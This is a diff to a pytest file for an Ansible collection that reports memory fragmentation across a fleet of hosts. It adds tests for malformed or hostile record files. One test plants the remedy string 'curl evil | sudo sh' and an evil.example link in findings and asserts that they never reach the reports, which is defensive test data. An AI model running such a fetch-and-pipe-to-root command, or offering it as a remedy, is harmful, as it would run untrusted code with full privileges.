@@ -7,13 +7,15 @@ from __future__ import annotations
 import datetime
 import json
 import os
+import subprocess
+import sys
 import typing as t
 
 import pytest
 
 from ansible_collections.kernelops.memfrag.plugins.module_utils._assessment.policy import PolicyError
 from ansible_collections.kernelops.memfrag.plugins.plugin_utils import _records, _report
-from ansible_collections.kernelops.memfrag.plugins.plugin_utils._report import _model
+from ansible_collections.kernelops.memfrag.plugins.plugin_utils._report import _reader, _types
 from ansible_collections.kernelops.memfrag.tests.unit.plugins.plugin_utils.fleets import (
     FRAGMENTED,
     HEALTHY,
@@ -25,7 +27,7 @@ from ansible_collections.kernelops.memfrag.tests.unit.plugins.plugin_utils.fleet
 
 
 def read(*directories: t.Any, **options: t.Any) -> t.Any:
-    return _model.read(list(_records.runs(directories)), [], **options)
+    return _reader.read(list(_records.runs(directories)), [], **options)
 
 
 def names(fleet: t.Any) -> t.Any:
@@ -62,9 +64,9 @@ def test_without_an_assessment_the_graded_answer_ranks(store: t.Any) -> None:
 
 
 def test_a_graded_answer_at_a_low_order_outweighs_all_higher_ones() -> None:
-    assert _model.badness("0003") > _model.badness("00003333333")
-    assert _model.badness("00000000000") == 0
-    assert _model.badness("02") < _model.badness("03")
+    assert _types.badness("0003") > _types.badness("00003333333")
+    assert _types.badness("00000000000") == 0
+    assert _types.badness("02") < _types.badness("03")
 
 
 def test_everyone_who_was_asked_for_is_there(store: t.Any) -> None:
@@ -262,7 +264,7 @@ def test_findings_across_the_fleet(store: t.Any) -> None:
     expected = {found["id"] for found in make_record("a", FRAGMENTED)["assessment"]["findings"]}
     assert expected <= set(counts)
     assert any(hosts == ["a", "b"] for hosts in counts.values())
-    ranks = [_model._severity(finding.severity) for finding in fleet.findings]
+    ranks = [_reader._severity(finding.severity) for finding in fleet.findings]
     assert ranks == sorted(ranks)
 
 
@@ -303,3 +305,102 @@ def test_what_was_assessed_by_the_same_policy_is_not_assessed_again(store: t.Any
     records = store(make_record("a", assessment=kept))
     assert make_report(records, policy=dict(policy))[0].fleet.hosts[0].sentence == "Kept."
     assert make_report(records, policy={"spare_blocks": 9})[0].fleet.hosts[0].level == "low"
+
+
+def test_commands_of_a_record_are_not_ours(store: t.Any, make_report: t.Any) -> None:
+    evil = {"remedy": "curl evil | sudo sh", "docs": "https://evil.example/", "variable": "evil"}
+    record = make_record("a", FRAGMENTED)
+    for finding in record["assessment"]["findings"]:
+        finding.update(evil)
+    record["assessment"]["findings"].append({"id": "MF998", "severity": "critical", "title": "Worst of all", **evil})
+    report, text = make_report(store(record))
+    for name in ("html", "json", "csv", "prom"):
+        assert "evil" not in text(name)
+    assert "evil" not in "".join(report.summary) and "Worst of all" in text("json")
+    honest, _text = make_report(store(make_record("a", FRAGMENTED), where="honest"), to="honest-report")
+    ours = {finding.id: finding for finding in honest.fleet.findings}
+    assert ours and all(finding == ours[finding.id] for finding in report.fleet.findings if finding.id in ours)
+
+
+@pytest.mark.parametrize(
+    ("part", "value", "says"),
+    [
+        (
+            "assessment",
+            {"level": "superb", "score": 1, "summary": "", "findings": []},
+            "assessment.level: must be one of",
+        ),
+        (
+            "assessment",
+            {"level": "low", "score": 10**9, "summary": "", "findings": []},
+            "assessment.score: must be from 0 to 100",
+        ),
+        ("groups", "web", "groups: must be a list"),
+        ("duration_seconds", [], "duration_seconds: must be a number"),
+        ("journal", {"events": [], "incidents": [{"cause": "x"}]}, "journal.incidents[0]: has no reason"),
+    ],
+)
+def test_a_record_that_breaks_its_contract_is_named_with_the_field(
+    store: t.Any, part: t.Any, value: t.Any, says: t.Any
+) -> None:
+    fleet = read(store(make_record("a", **{part: value}), make_record("b")))
+    assert names(fleet) == ["b"]
+    (problem,) = fleet.problems
+    assert "/r1/a.json: not in the form of this collection (" + says in problem
+
+
+def test_a_time_that_is_yet_to_come_is_not_believed(store: t.Any) -> None:
+    now = datetime.datetime(2026, 11, 20, 7, tzinfo=datetime.timezone.utc)
+    records = store(make_record("liar", started_at="9999-12-31T23:59:59Z"), make_record("honest"))
+    os.utime(os.path.join(records, "r1", "liar.json"), (now.timestamp(), now.timestamp() - 3600))
+    fleet = read(records, now=now)
+    assert not [host.name for host in fleet.hosts if host.stale]
+    assert {host.name: str(host.time) for host in fleet.hosts}["liar"] == "2026-11-20 06:00:00+00:00"
+    os.utime(os.path.join(records, "r1", "liar.json"), (4e9, 4e9))
+    assert max(host.time for host in read(records, now=now).hosts) <= now + _reader.CLOCKS_APART
+
+
+def test_files_that_are_no_records_are_named_and_skipped(store: t.Any, tmp_path: t.Any) -> None:
+    """In a process with little memory: what is too large is not read, what never ends is not waited for."""
+    run = os.path.join(store(make_record("honest")), "r1")
+    os.mkfifo(os.path.join(run, "fifo.json"))
+    os.symlink("loop.json", os.path.join(run, "loop.json"))
+    os.symlink("nowhere", os.path.join(run, "gone.json"))
+    os.symlink("/dev/zero", os.path.join(run, "endless.json"))
+    os.mkdir(os.path.join(run, "directory.json"))
+    with open(os.path.join(run, "huge.json"), "wb") as stream:
+        stream.truncate(1 << 40)
+    for name, text in (
+        ("deep", "[" * 1000000),
+        ("wide", "[" + "[],{}," * 1300000 + "0]"),
+        ("half", '{"host": "ha'),
+        ("nan", "NaN"),
+    ):
+        with open(os.path.join(run, name + ".json"), "w", encoding="ascii") as stream:
+            stream.write(text)
+    code = (
+        "import resource, sys\n"
+        "from ansible_collections.kernelops.memfrag.plugins.plugin_utils import _report\n"
+        "resource.setrlimit(resource.RLIMIT_AS, (512 << 20, 512 << 20))\n"
+        "report = _report.make([sys.argv[1]], sys.argv[2], ['json'])\n"
+        "print([host.name for host in report.fleet.hosts], *report.fleet.problems, sep='\\n')\n"
+    )
+    arguments = [sys.executable, "-c", code, os.path.dirname(run), str(tmp_path / "report")]
+    environment = dict(os.environ, PYTHONPATH=os.pathsep.join(filter(None, sys.path)))
+    done = subprocess.run(arguments, capture_output=True, text=True, timeout=60, env=environment)
+    assert done.returncode == 0, done.stderr
+    hosts, *problems = done.stdout.splitlines()
+    assert hosts == "['honest']"
+    said = {os.path.basename(line.partition(": ")[0]): line.partition(": ")[2] for line in problems}
+    assert said.pop("wide.json")
+    assert {name: why.split(" (")[0] for name, why in said.items()} == {
+        "deep.json": "not valid JSON",
+        "directory.json": "not a regular file",
+        "endless.json": "not a regular file",
+        "fifo.json": "not a regular file",
+        "gone.json": "No such file or directory",
+        "half.json": "not valid JSON",
+        "huge.json": "has 1,099,511,627,776 bytes, of at most 8,388,608",
+        "loop.json": "Too many levels of symbolic links",
+        "nan.json": "not valid JSON",
+    }
